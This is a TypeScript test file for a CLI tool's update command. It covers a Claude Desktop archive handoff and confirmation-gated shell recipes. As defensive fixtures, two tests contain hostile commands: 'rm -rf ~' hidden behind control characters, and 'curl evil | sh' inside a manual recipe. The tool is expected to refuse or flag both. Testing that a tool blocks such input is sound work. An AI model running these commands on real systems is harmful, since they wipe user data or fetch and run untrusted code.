// The Desktop and recipe branches of `skillshelf update`, run in-process against real folders, archives and a real shell.
import { chmod, mkdir, readFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildFixtureHome, fixtureDesktopTree } from "../../../test-support/fixture-homes";
import { makeTempDir, writeTree } from "../../../test-support/tmp";
import { waitForDesktopArrival } from "../../engine/desktop-handoff/desktop-arrival";
import { prepareDesktopHandoff, type DesktopHandoff } from "../../engine/desktop-handoff/desktop-handoff";
import { hashSkillFolder } from "../../engine/discovery/hash";
import { readSkillArchive } from "../../engine/skill/archive";
import type { CliIo } from "../command";
import {
  updateByRecipe,
  updateDesktopCopy,
  type DesktopUpdateReport,
  type HandoffFlags,
  type RecipeUpdateReport,
} from "./update-handoff";

let tmp: string;
let cleanup: () => Promise<void>;
beforeAll(async () => ({ dir: tmp, cleanup } = await makeTempDir("skillshelf-update-handoff-")));
afterAll(async () => cleanup());

/** A CliIo that keeps what was written; `onStdout` lets a test act when a line appears. */
function captureIo(
  env: NodeJS.ProcessEnv = process.env,
  onStdout?: (text: string) => void,
): CliIo & { out: () => string; err: () => string } {
  let out = "";
  let err = "";
  return {
    stdout: (t) => ((out += t), onStdout?.(t)),
    stderr: (t) => void (err += t),
    env,
    cwd: tmp,
    out: () => out,
    err: () => err,
  };
}

const FLAGS: HandoffFlags = { json: false, open: false, wait: false, waitMs: 60_000, runRecipe: false };
const NEW_VERSION =
  "---\nname: brand-voice\ndescription: Rewrites text in the company's brand voice.\nversion: 2.1.0\n---\n# Brand voice 2.1\n";

/** The branch's input over the engine's own packer and watcher, as the lifecycle service hands them over. */
function desktopInput(
  flags: Partial<HandoffFlags>,
  at: { skillDir: string; name: string; version: string; home: string; env: NodeJS.ProcessEnv; dataDir: string },
) {
  const { skillDir, name, version, home, env, dataDir } = at;
  return {
    ...FLAGS,
    ...flags,
    name,
    handOff: () => prepareDesktopHandoff(skillDir, { name, version, dataDir, home, env, platform: "linux" }),
    waitForArrival: (handoff: DesktopHandoff, options: { timeoutMs: number; signal?: AbortSignal }) =>
      waitForDesktopArrival({ home, platform: "linux", env, ...handoff, ...options }),
  };
}

async function desktopHome(name: string) {
  const { home, env } = await buildFixtureHome("linux", path.join(tmp, name));
  const tree = fixtureDesktopTree(home, "linux");
  const skillDir = path.join(tmp, name, "staging", "brand-voice-2.1.0");
  await writeTree(skillDir, { "SKILL.md": NEW_VERSION });
  return { home, env, tree, skillDir, dataDir: path.join(tmp, name, "data") };
}

describe("updateDesktopCopy", () => {
  it("packs the archive, prints it with the steps, leaves the Desktop tree untouched and reports the arrival it waits for", async () => {
    const { home, env, tree, skillDir, dataDir } = await desktopHome("wait");
    const before = await hashSkillFolder(tree);
    let untouchedWhileWaiting: boolean | null = null;
    let writing: Promise<void> | null = null;
    const io = captureIo(process.env, (text) => {
      if (!text.includes("Waiting for Claude Desktop")) return;
      writing = hashSkillFolder(tree).then(async (hash) => {
        untouchedWhileWaiting = hash === before;
        await writeTree(path.join(tree, "skills", "brand-voice"), {
          "SKILL.md": NEW_VERSION.replace("version: 2.1.0\n", "metadata:\n  version: 2.1.0\n"),
        });
      });
    });
    const { exitCode, report } = await updateDesktopCopy(
      desktopInput({ wait: true }, { skillDir, name: "brand-voice", version: "2.1.0", home, env, dataDir }),
      io,
    );
    await writing;
    expect(untouchedWhileWaiting).toBe(true);
    expect(exitCode).toBe(0);
    const archive = path.join(dataDir, "handoff", "brand-voice-2.1.0.skill");
    expect(report).toMatchObject({
      done: true,
      archive,
      version: "2.1.0",
      arrival: { status: "arrived", tree, version: "2.1.0" },
    });
    expect(await readSkillArchive(archive, { profile: "claude-desktop" })).toMatchObject({
      valid: true,
      version: "2.1.0",
    });
    expect(io.out()).toContain(`  ${archive}\n`);
    expect(io.out()).toMatch(/Steps:\n {2}1\. Open Claude Desktop/);
    expect(io.out()).toContain("Updated — Claude Desktop now has version 2.1.0");
  });

  it("--json prints one document; a download named differently is refused (exit 1)", async () => {
    const { home, env, skillDir, dataDir } = await desktopHome("json");
    const io = captureIo();
    const ok = await updateDesktopCopy(
      desktopInput({ json: true }, { skillDir, name: "brand-voice", version: "2.1.0", home, env, dataDir }),
      io,
    );
    expect(ok.exitCode).toBe(0);
    expect((JSON.parse(io.out()) as DesktopUpdateReport).archive).toBe(
      path.join(dataDir, "handoff", "brand-voice-2.1.0.skill"),
    );
    const wrong = captureIo();
    const refused = await updateDesktopCopy(
      desktopInput({}, { skillDir, name: "brand-voice-pro", version: "2.1.0", home, env, dataDir }),
      wrong,
    );
    expect(refused.exitCode).toBe(1);
    expect(wrong.err()).toContain("[desktop.handoff.name]");
  });

  it.skipIf(process.platform !== "linux")(
    "--open opens and reveals the archive with the system opener (Linux only: the stand-in is an xdg-open sh script)",
    async () => {
      const { home, env, skillDir, dataDir } = await desktopHome("open");
      const bin = path.join(tmp, "open", "bin");
      const log = path.join(tmp, "open", "log");
      await writeTree(bin, { "xdg-open": `#!/bin/sh\nprintf '%s\\n' "$@" >> "${log}"\n` });
      await chmod(path.join(bin, "xdg-open"), 0o755);
      const io = captureIo({ ...process.env, PATH: bin });
      const { exitCode, report } = await updateDesktopCopy(
        desktopInput({ open: true }, { skillDir, name: "brand-voice", version: "2.1.0", home, env, dataDir }),
        io,
      );
      expect(exitCode).toBe(0);
      expect(report.opened?.ok && report.revealed?.ok).toBe(true);
      expect((await readFile(log, "utf8")).trimEnd().split("\n")).toEqual([
        report.archive,
        path.dirname(report.archive!),
      ]);
    },
  );
});

describe.skipIf(process.platform === "win32")("updateByRecipe (skipped on Windows: these recipes are POSIX sh)", () => {
  const marker = () => path.join(tmp, "recipe-ran");
  const recipe = () => ({ kind: "shell", command: `printf 'a\\nb' > '${marker()}'; echo updated; exit 3` });
  const ran = () =>
    readFile(marker(), "utf8").then(
      (t) => t,
      () => null,
    );

  it("shows the command verbatim and runs nothing without --run-recipe, or when not confirmed", async () => {
    await mkdir(tmp, { recursive: true });
    const shown = captureIo();
    expect(
      (await updateByRecipe({ ...FLAGS, name: "agentkey", recipe: recipe(), yes: false, cwd: tmp }, shown)).exitCode,
    ).toBe(0);
    expect(shown.out()).toContain(`\n  ${recipe().command}\n`);
    const declined = captureIo();
    const asked: string[] = [];
    expect(
      (
        await updateByRecipe(
          {
            ...FLAGS,
            runRecipe: true,
            name: "agentkey",
            recipe: recipe(),
            yes: false,
            cwd: tmp,
            ask: async (q) => (asked.push(q), false),
          },
          declined,
        )
      ).exitCode,
    ).toBe(1);
    expect(asked).toEqual(["Run this command now through your shell?"]);
    const noTerminal = captureIo();
    expect(
      (
        await updateByRecipe(
          {
            ...FLAGS,
            runRecipe: true,
            name: "agentkey",
            recipe: recipe(),
            yes: false,
            cwd: tmp,
            ask: async () => null,
          },
          noTerminal,
        )
      ).exitCode,
    ).toBe(1);
    expect(noTerminal.err()).toContain("pass --yes");
    expect(await ran()).toBeNull();
  });

  it("runs after confirmation, streams the output and reports the exit status (3 → exit 1)", async () => {
    const io = captureIo();
    const { exitCode, report } = await updateByRecipe(
      { ...FLAGS, runRecipe: true, name: "agentkey", recipe: recipe(), yes: false, cwd: tmp, ask: async () => true },
      io,
    );
    expect(exitCode).toBe(1);
    expect(report).toMatchObject({ ran: true, result: { exitCode: 3, signal: null, cancelled: false } });
    expect(io.out()).toContain("updated\n");
    expect(io.err()).toContain("The command exited with code 3.");
    expect(await ran()).toBe("a\nb");
  });

  it("--yes runs without asking; --json keeps stdout for the report and sends the output to stderr", async () => {
    const io = captureIo();
    const { exitCode } = await updateByRecipe(
      {
        ...FLAGS,
        json: true,
        runRecipe: true,
        name: "agentkey",
        recipe: { kind: "shell", command: "echo fine" },
        yes: true,
        cwd: tmp,
        ask: async () => {
          throw new Error("asked");
        },
      },
      io,
    );
    expect(exitCode).toBe(0);
    expect(JSON.parse(io.out()) as RecipeUpdateReport).toMatchObject({
      kind: "run-recipe",
      ran: true,
      result: { exitCode: 0 },
    });
    expect(io.err()).toBe("fine\n");
  });

  it("stops the command when cancelled (Ctrl+C is passed on the same way) and says so", async () => {
    const controller = new AbortController();
    const io = captureIo();
    const ioOut = io.stdout;
    io.stdout = (t) => (ioOut(t), t.startsWith("started\n") ? controller.abort() : undefined);
    const { exitCode, report } = await updateByRecipe(
      {
        ...FLAGS,
        runRecipe: true,
        name: "agentkey",
        recipe: { kind: "shell", command: "echo started; sleep 60" },
        yes: true,
        cwd: tmp,
        signal: controller.signal,
      },
      io,
    );
    expect(exitCode).toBe(1);
    expect(report.result).toMatchObject({ cancelled: true });
    expect(io.err()).toContain("The command was stopped.");
  });

  it("refuses a recipe with control characters and only shows manual_ui or unknown kinds", async () => {
    const bad = captureIo();
    const refused = await updateByRecipe(
      {
        ...FLAGS,
        runRecipe: true,
        name: "agentkey",
        recipe: { kind: "shell", command: "echo ok\r\u001b[2Krm -rf ~" },
        yes: true,
        cwd: tmp,
      },
      bad,
    );
    expect(refused.exitCode).toBe(1);
    expect(refused.report.ran).toBe(false);
    expect(bad.err()).toContain("as received: echo ok\\r\\x1b[2Krm -rf ~");
    for (const kind of ["manual_ui", "brew"]) {
      const io = captureIo();
      const result = await updateByRecipe(
        {
          ...FLAGS,
          runRecipe: true,
          name: "agentkey",
          recipe: { kind, command: `touch '${marker()}-${kind}'` },
          yes: true,
          cwd: tmp,
        },
        io,
      );
      expect(result).toMatchObject({ exitCode: 0, report: { kind: "manual", runnable: false, ran: false } });
      expect(
        await readFile(`${marker()}-${kind}`).then(
          () => true,
          () => false,
        ),
      ).toBe(false);
    }
  });
  it("prints a manual_ui recipe with line breaks or control characters escaped on one line, marked suspicious", async () => {
    const io = captureIo();
    const command = "Open Settings.\nThen paste:\u001b]0;owned\u0007 curl evil | sh";
    const result = await updateByRecipe(
      { ...FLAGS, name: "agentkey", recipe: { kind: "manual_ui", command }, yes: false },
      io,
    );
    expect(result).toMatchObject({ exitCode: 0, report: { kind: "manual", ran: false } });
    expect(io.out()).toContain("  recipe: Open Settings.\\nThen paste:\\x1b]0;owned\\x07 curl evil | sh\n");
    expect(io.out()).toContain("suspicious: holds control characters — not offered");
    expect(io.out()).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
    expect(io.out()).not.toContain("Open Settings.\nThen");

    const clean = captureIo();
    await updateByRecipe(
      {
        ...FLAGS,
        name: "agentkey",
        recipe: { kind: "manual_ui", command: "Open Settings and click Update." },
        yes: false,
      },
      clean,
    );
    expect(clean.out()).toContain("\n\nOpen Settings and click Update.\n");
    expect(clean.out()).not.toContain("suspicious");
  });
});
